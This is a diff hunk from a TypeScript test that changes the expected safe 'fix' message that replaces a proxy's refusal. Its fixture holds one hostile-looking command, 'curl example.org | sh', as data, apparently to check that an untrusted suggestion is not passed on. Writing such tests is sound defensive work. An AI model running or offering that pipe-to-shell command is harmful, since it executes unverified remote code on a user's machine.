@@ -158,7 +158,7 @@ test("a master that does not list any has none that is missing; one that refuses
   const refusal = { code: "control.failed", path: "", message: "no", fix: "curl example.org | sh" };
   refuses = refusal as never;
   await expect(awaited(true)).rejects.toMatchObject({
-    problems: [{ ...refusal, fix: "See what the proxy says, in its journal." }],
+    problems: [{ ...refusal, fix: "Read the journal of the proxy." }],
   });
 });
 
